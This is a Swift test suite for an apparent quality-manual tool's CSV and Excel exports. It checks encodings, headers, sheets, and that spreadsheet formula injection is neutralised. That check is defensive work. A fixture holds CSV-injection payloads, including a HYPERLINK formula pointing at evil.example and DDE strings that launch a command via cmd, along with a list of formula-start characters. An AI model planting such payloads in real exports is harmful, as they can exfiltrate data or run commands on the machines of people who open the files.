import Foundation
import Testing
@testable import QMarkCore

/// The exports an auditor takes away, read back by their tools: the CSV files by Python's csv
/// module, the workbook by openpyxl and by LibreOffice (`make test-deps` installs both).
@Suite struct ExportsTests {
    static let files = [
        "site.yml": "title: 测试手册\nstandards: [iso9001-2015, iso14001-2015]\n",
        "a.md": doc("QP-01", title: "文件控制程序, 含\"引号\"", clauses: "\n  iso9001-2015: [7.5]\n  iso14001-2015: [7.5]",
                    extra: "records:\n  - {id: QR-0101, title: 文件发放记录, retention: 3 年}"),
        "b.md": doc("QP-02", title: "标识程序", status: "draft", clauses: "[8.5.2]"),
        "c.md": doc("EP-01", title: "环境因素识别与评价程序", clauses: "\n  iso14001-2015: [6.1.2]"),
    ]

    /// LibreOffice converting files headless, with a profile of its own that is removed after.
    static func libreOffice(_ arguments: [String], in folder: URL) throws -> CommandResult {
        let soffice = try #require(["/usr/bin/soffice", "/usr/bin/libreoffice"].first { FileManager.default.isExecutableFile(atPath: $0) },
                                   "LibreOffice is not installed (make test-deps installs libreoffice-calc-nogui)")
        let profile = FileManager.default.temporaryDirectory.appendingPathComponent("qmark-lo-\(UUID().uuidString)")
        defer { try? FileManager.default.removeItem(at: profile) }
        return try QMarkBinary.runTool(soffice, ["-env:UserInstallation=\(profile.absoluteString)", "--headless", "--norestore"] + arguments, in: folder)
    }

    static func read(_ site: URL) throws -> [String: Any] {
        let script = QMarkBinary.packageRoot.appendingPathComponent("Tests/Fixtures/exports/read.py").path
        let result = try QMarkBinary.runTool("/usr/bin/env", ["python3", script, site.path], in: site)
        #expect(result.status == 0, "openpyxl is needed (make test-deps): \(result.stderr)")
        return try #require(try JSONSerialization.jsonObject(with: Data(result.stdout.utf8)) as? [String: Any])
    }

    @Test func csvFilesAndTheWorkbookReadBack() throws {
        let fixture = try FixtureManual(Self.files)
        #expect(try fixture.run("build", "--templates", QMarkBinary.templates).status == 0)
        let found = try Self.read(fixture.site)

        let coverage = try #require(found["coverage"] as? [String: Any])
        #expect(coverage["crlf"] as? Bool == true)
        #expect(coverage["bom"] as? Bool == true, "UTF-8 with a byte-order mark, so Excel on Chinese Windows reads Chinese")
        #expect((found["register"] as? [String: Any])?["bom"] as? Bool == true)
        let rows = try #require(coverage["rows"] as? [[String]])
        #expect(rows.first == ["standard", "clause", "clause_title", "status", "justification", "document", "document_title",
                               "document_status", "revision", "effective", "owner"])
        #expect(rows.contains { $0[0] == "iso9001-2015" && $0[1] == "7.5" && $0[5] == "QP-01" && $0[6] == "文件控制程序, 含\"引号\"" && $0[3] == "covered" })
        #expect(rows.contains { $0[0] == "iso14001-2015" && $0[1] == "7.5" && $0[5] == "QP-01" }, "one row per standard, clause and document")
        #expect(rows.contains { $0[0] == "iso9001-2015" && $0[1] == "8.5.2" && $0[5] == "QP-02" && $0[7] == "draft" }, "pending documents listed")
        #expect(rows.contains { $0[0] == "iso14001-2015" && $0[1] == "9.2" && $0[3] == "uncovered" && $0[5].isEmpty }, "an uncovered clause has its row")

        let register = try #require((found["register"] as? [String: Any])?["rows"] as? [[String]])
        #expect(register.first?.prefix(3) == ["id", "title", "type"])
        #expect(register.contains { $0[0] == "QP-01" && $0[1] == "文件控制程序, 含\"引号\"" && $0[8] == "iso14001-2015:7.5 iso9001-2015:7.5" })

        let sheets = try #require(found["sheets"] as? [String: [String: Any]])
        // Sheets named as an auditor names them: the standards' designations, not QMark's ids.
        #expect(Set(sheets.keys) == ["GB-T 19001-2016", "GB-T 24001-2016", "文件清单", "记录清单", "修订记录"])
        for (name, sheet) in sheets {
            #expect(sheet["freeze"] as? String == "A2", "\(name): the header stays in view")
            #expect((sheet["filter"] as? String)?.hasPrefix("A1:") == true, "\(name): filters on")
            #expect(sheet["bold_header"] as? Bool == true, "\(name)")
        }
        let matrix = try #require(sheets["GB-T 24001-2016"])
        let fills = try #require(matrix["fills"] as? [String: String])
        #expect(fills["已覆盖"] == "FFC6EFCE" && fills["未覆盖"] == "FFFFC7CE", "status cells labelled and coloured: \(fills)")
        let matrixRows = try #require(matrix["rows"] as? [[Any]])
        #expect(matrixRows.contains { ($0[0] as? String)?.trimmingCharacters(in: .whitespaces) == "6.1.2" && ($0[3] as? String) == "EP-01 环境因素识别与评价程序" })
        let records = try #require(sheets["记录清单"]?["rows"] as? [[Any]])
        #expect(records.contains { ($0[0] as? String) == "QR-0101" && ($0[2] as? String) == "3 年" && ($0[3] as? String) == "QP-01" })

        #expect(try fixture.page("register.html").contains("href=\"api/qmark.xlsx\""))
        #expect(try fixture.page("standards/iso9001-2015/index.html").contains("href=\"../../api/coverage.csv\""))
    }

    /// Titles, owners, approvers, clause titles and justifications that a spreadsheet would take
    /// for formulas (CSV injection).
    static let hostile = [
        "site.yml": "title: T\nlanguage: en\nstandards: [iso9001-2015, csr-evil]\nexclusions:\n  8.3: \"@SUM(1+1) no design\"\n",
        "standards/evil.yml": "id: csr-evil\ntitle: Evil\nclauses:\n  - {id: 1, title: \"=2+5\"}\n  - {id: 2, title: \"-2+3\"}\n"
            + "  - {id: 3, title: \"\\t=1+1\"}\n",
        "a.md": """
            ---
            id: QP-01
            title: '=HYPERLINK("http://evil.example/?x","Quality")'
            type: procedure
            revision: A
            status: approved
            effective: 2026-01-01
            owner: "+cmd|' /C calc'!A0"
            approver: "@SUM(1+1)*cmd|' /C calc'!A0"
            clauses:
              iso9001-2015: [7.5]
              csr-evil: [1, 2]
            ---
            Text.

            """,
        "b.md": doc("QP-02", title: "＝1+1 全角", clauses: "[8.5]"),
    ]

    static let formulaStarts: Set<Character> = ["=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠"]

    /// Every CSV QMark writes opens as text in a spreadsheet: LibreOffice converts each to a
    /// workbook and not one cell of it is a formula; the text stays readable behind a `'`.
    @Test func noCSVCellIsAFormula() throws {
        let fixture = try FixtureManual(Self.hostile)
        let build = try fixture.run("build", "--templates", QMarkBinary.templates)
        #expect(build.status == 0, "\(build.stderr)")
        let report = try fixture.run("coverage", "--format", "csv", "--standard", "all")
        #expect(report.status == 0, "\(report.stderr)")
        #expect(report.stdout.hasPrefix("\u{FEFF}standard,clause,"))
        let files = fixture.root.appendingPathComponent("csv")
        try FileManager.default.createDirectory(at: files, withIntermediateDirectories: true)
        try Data(report.stdout.utf8).write(to: files.appendingPathComponent("report.csv"))
        for name in ["coverage.csv", "register.csv"] {
            try FileManager.default.copyItem(at: fixture.site.appendingPathComponent("api/\(name)"), to: files.appendingPathComponent(name))
        }
        let names = ["report.csv", "coverage.csv", "register.csv"]
        for name in names {
            let bytes = try Data(contentsOf: files.appendingPathComponent(name))
            #expect(bytes.starts(with: [0xEF, 0xBB, 0xBF]), "\(name): byte-order mark")
            let text = String(decoding: bytes.dropFirst(3), as: UTF8.self)
            // Fields as RFC 4180 reads them: no unquoted field and no quoted one starts a formula.
            let fields = text.components(separatedBy: "\r\n").flatMap { $0.components(separatedBy: ",") }
                .map { $0.hasPrefix("\"") ? String($0.dropFirst()) : $0 }
            #expect(!fields.contains { $0.first.map(Self.formulaStarts.contains) == true }, "\(name)")
        }
        let register = try String(contentsOf: files.appendingPathComponent("register.csv"), encoding: .utf8)
        #expect(register.contains("\"'=HYPERLINK(\"\"http://evil.example/?x\"\",\"\"Quality\"\")\""), "readable behind a ': \(register)")
        #expect(register.contains("'+cmd|' /C calc'!A0") && register.contains("'@SUM(1+1)*cmd|' /C calc'!A0") && register.contains("'＝1+1 全角"))

        let converted = try Self.libreOffice(["--infilter=CSV:44,34,76,1", "--convert-to", "xlsx", "--outdir", files.path]
                                             + names.map { files.appendingPathComponent($0).path }, in: fixture.root)
        #expect(converted.status == 0, "\(converted.stderr)")
        let books = names.map { files.appendingPathComponent($0.replacingOccurrences(of: ".csv", with: ".xlsx")).path }
            + [fixture.site.appendingPathComponent("api/qmark.xlsx").path]
        let script = QMarkBinary.packageRoot.appendingPathComponent("Tests/Fixtures/exports/formulas.py").path
        let read = try QMarkBinary.runTool("/usr/bin/env", ["python3", script] + books, in: fixture.root)
        #expect(read.status == 0, "\(read.stderr)")
        let found = try #require(try JSONSerialization.jsonObject(with: Data(read.stdout.utf8)) as? [String: [String: [String]]])
        #expect(found.count == 4, "LibreOffice converted every CSV file: \(converted.stdout) \(converted.stderr)")
        for (book, cells) in found {
            #expect(cells["formulas"] == [], "\(book): cells a spreadsheet evaluates")
        }
        let opened = try #require(found[books[2]]?["texts"])
        #expect(opened.contains { $0.contains("=HYPERLINK(\"http://evil.example/?x\",\"Quality\")") }, "the title is still there to read")
        let workbook = try #require(found[books[3]]?["texts"])
        #expect(workbook.contains("=HYPERLINK(\"http://evil.example/?x\",\"Quality\")"), "the workbook stores the title as the plain string it is")
        #expect(workbook.contains("+cmd|' /C calc'!A0"))
    }

    @Test func libreOfficeOpensTheWorkbook() throws {
        let fixture = try FixtureManual(Self.files)
        #expect(try fixture.run("build", "--templates", QMarkBinary.templates).status == 0)
        let out = fixture.root.appendingPathComponent("converted")
        let result = try Self.libreOffice(["--convert-to", "pdf", "--outdir", out.path, fixture.site.appendingPathComponent("api/qmark.xlsx").path],
                                          in: fixture.root)
        #expect(result.status == 0, "\(result.stderr)")
        let pdf = out.appendingPathComponent("qmark.pdf")
        let size = (try? FileManager.default.attributesOfItem(atPath: pdf.path)[.size] as? Int) ?? 0
        #expect(size > 1000, "LibreOffice wrote no PDF: \(result.stdout) \(result.stderr)")
    }

    @Test func theCoverageCommandWritesTheWorkbook() throws {
        let fixture = try FixtureManual(Self.files)
        let written = try fixture.run("coverage", "--format", "xlsx")
        // Standard output is a file in tests, so the workbook is written.
        #expect(written.status == 0)
        #expect(written.stdout.hasPrefix("PK"), "a ZIP archive")
    }
}
